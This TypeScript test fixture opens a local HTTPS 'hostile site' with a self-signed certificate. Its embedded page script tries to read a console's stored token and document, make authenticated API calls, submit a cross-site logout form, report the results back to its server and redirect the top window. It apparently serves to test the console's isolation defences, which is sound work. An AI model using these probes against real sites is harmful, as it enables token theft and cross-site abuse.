import { createSign, generateKeyPairSync } from 'node:crypto'
import { createServer } from 'node:https'
import type { AddressInfo } from 'node:net'

/** Another site, over https, whose page tries to take what is the console's. */
export interface HostileSite {
  /** Its page; at `/control` the same page in a frame without a sandbox, of its own origin. */
  readonly address: string
  /** What each attempt of a page got, as its page told it; oldest first. */
  readonly told: readonly Readonly<Record<string, string>>[]
  close(): Promise<void>
}

export async function openHostileSite(api: string): Promise<HostileSite> {
  const told: Record<string, string>[] = []
  let page = ''
  const server = createServer(selfSigned(), async (request, response) => {
    if (request.method === 'POST') {
      const parts: Uint8Array[] = []
      for await (const part of request) parts.push(part)
      told.push(JSON.parse(Buffer.concat(parts).toString()))
    }
    const pages: Readonly<Record<string, string>> = { '/': page, '/control': '<iframe src="/"></iframe>' }
    const body = pages[request.url ?? ''] ?? 'Otra página'
    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(body)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const address = `https://127.0.0.1:${(server.address() as AddressInfo).port}`
  page = `<!doctype html><title>Tablero</title><h1>Participación</h1><script>(${attack})(${JSON.stringify([address, api])})</script>`
  return {
    address,
    told,
    close: () => new Promise((resolve) => (server.closeAllConnections(), server.close(() => resolve()))),
  }
}

/** Runs in the page. Each attempt gets something, nothing, or an error. */
async function attack([home, api]: [string, string]) {
  let answer: unknown
  addEventListener('message', ({ data }) => (answer = data))
  parent.postMessage({ type: 'token', wants: 'laurel.token' }, '*')
  const token = () => parent.localStorage.getItem('laurel.token')
  const attempts: Record<string, () => unknown> = {
    'token of the console': token,
    'document of the console': () => parent.document.body.innerHTML,
    'address it was opened from': () => document.referrer,
    'address of the tab': () => top?.location.href,
    storage: () => Object.keys(localStorage).length + 1,
    cookies: () => {
      document.cookie = 'a=1'
      return document.cookie
    },
    'call of the API': async () =>
      (await fetch(`${api}/staff/me`, { headers: { authorization: `Bearer ${token()}` } })).ok,
    'form sent to the API': async () => {
      const frame = document.body.appendChild(document.createElement('iframe'))
      frame.name = 'sent'
      const form = document.body.appendChild(document.createElement('form'))
      Object.assign(form, { method: 'post', action: `${api}/staff/logout`, target: 'sent' })
      form.submit()
      await new Promise((resolve) => setTimeout(resolve, 300))
      return frame.contentDocument?.body.textContent
    },
    'window with an opener': () => open('about:blank')?.opener === window,
    'answer to a message': () => answer,
  }
  const got: Record<string, string> = {}
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      got[name] = (await attempt()) ? 'taken' : 'nothing'
    } catch {
      got[name] = 'refused'
    }
  }
  await fetch(`${home}/told`, { method: 'POST', mode: 'no-cors', body: JSON.stringify(got) })
  try {
    if (top) top.location.href = `${home}/elsewhere`
  } catch {
    // Where it may not, it stays.
  }
}

/** The smallest certificate that a browser reads, which nobody vouches for. */
function selfSigned() {
  const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' })
  const der = (tag: number, ...parts: Uint8Array[]): Buffer => {
    const content = Buffer.concat(parts)
    const { length } = content
    const size = length < 128 ? [length] : length < 256 ? [0x81, length] : [0x82, length >> 8, length & 255]
    return Buffer.concat([Buffer.from([tag, ...size]), content])
  }
  const time = (text: string) => der(0x17, Buffer.from(text))
  const ecdsaWithSha256 = der(0x30, Buffer.from('06082a8648ce3d040302', 'hex'))
  const nobody = der(0x30)
  const facts = der(
    0x30,
    der(0x02, Buffer.from([1])),
    ecdsaWithSha256,
    nobody,
    der(0x30, time('200101000000Z'), time('491231235959Z')),
    nobody,
    publicKey.export({ type: 'spki', format: 'der' }),
  )
  const signature = createSign('sha256').update(facts).sign(privateKey)
  const certificate = der(0x30, facts, ecdsaWithSha256, der(0x03, Buffer.from([0]), signature))
  return {
    key: privateKey.export({ type: 'pkcs8', format: 'pem' }),
    cert: `-----BEGIN CERTIFICATE-----\n${certificate.toString('base64')}\n-----END CERTIFICATE-----\n`,
  }
}
